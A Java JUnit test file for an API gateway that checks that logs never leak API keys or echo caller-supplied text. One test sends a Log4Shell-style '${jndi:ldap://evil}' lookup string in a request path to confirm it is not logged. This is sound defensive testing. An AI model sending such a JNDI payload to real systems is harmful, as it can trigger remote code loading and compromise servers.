package org.marketregime.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.AppenderBase;
import java.net.http.HttpRequest;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.slf4j.LoggerFactory;

@ExtendWith(PlatformExtension.class)
final class LogTest {
    private final Platform platform;

    LogTest(Platform platform) {
        this.platform = platform;
    }

    @Test
    void keepsNoKeyHoweverItWasSent() {
        String key = platform.all.text();
        String secret = key.split("_", -1)[3];

        List<String> lines = logged(() -> {
            List<HttpRequest.Builder> requests = List.of(
                    platform.request("/v1/signals/NIFTY").header("X-API-Key", key),
                    platform.request("/v1/signals/NIFTY").header("Authorization", "Bearer " + key),
                    platform.request("/v1/signals/NIFTY").header("Authorization", "Basic " + key),
                    platform.request("/v1/signals/NIFTY").header("X-API-Key", key + "x"),
                    platform.request("/v1/signals/NIFTY")
                            .header("X-API-Key", key)
                            .header("X-Request-Id", key),
                    platform.request("/v1/signals/NIFTY?api_key=" + key),
                    platform.request("/v1/signals/" + key).header("X-API-Key", key),
                    platform.request("/v1/signals/NIFTY?at=" + key).header("X-API-Key", key),
                    platform.request("/nothing/" + key),
                    platform.request("/v1/signals/NIFTY")
                            .header("X-API-Key", key)
                            .header("Accept", key),
                    platform.request("/v1/signals/NIFTY")
                            .header("X-API-Key", key)
                            .header("Cookie", key),
                    platform.request("/v1/signals/NIFTY")
                            .header("X-API-Key", key)
                            .header("X-Long", key.repeat(500)));
            for (HttpRequest.Builder request : requests) {
                platform.send(request);
            }
        });

        assertThat(lines).hasSizeGreaterThanOrEqualTo(12);
        assertThat(lines).noneMatch(line -> line.contains(secret));
        assertThat(lines).anyMatch(line -> line.contains(platform.all.kept().id()));
    }

    @Test
    void namesEveryRequestByItsIdAndNothingThatTheCallerTyped() {
        List<String> lines = logged(() -> {
            platform.send(platform.request("/v1/signals/$%7Bjndi:ldap://evil%7D?x=jndi")
                    .header("X-Request-Id", "find-me-1"));
            platform.send(platform.request("/v1/signals/NIFTY")
                    .header("X-API-Key", platform.all.text())
                    .header("X-Request-Id", "find-me-2")
                    .header("User-Agent", "jndi"));
        });

        for (String id : List.of("find-me-1", "find-me-2")) {
            assertThat(lines).anyMatch(line -> line.contains("request " + id));
        }
        assertThat(lines).noneMatch(line -> line.contains("jndi"));
    }

    /** What this process logs meanwhile, stack traces included. */
    private static List<String> logged(Runnable requests) {
        Queue<String> lines = new ConcurrentLinkedQueue<>();
        AppenderBase<ILoggingEvent> appender = new AppenderBase<>() {
            @Override
            protected void append(ILoggingEvent event) {
                String stack =
                        event.getThrowableProxy() == null ? "" : ThrowableProxyUtil.asString(event.getThrowableProxy());
                lines.add(event.getLoggerName() + " " + event.getFormattedMessage() + stack);
            }
        };
        LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
        Logger root = context.getLogger(Logger.ROOT_LOGGER_NAME);
        appender.setContext(context);
        appender.start();
        root.addAppender(appender);
        Level before = root.getLevel();
        root.setLevel(Level.INFO);
        try {
            requests.run();
        } finally {
            root.setLevel(before);
            root.detachAppender(appender);
        }
        return new ArrayList<>(lines);
    }
}
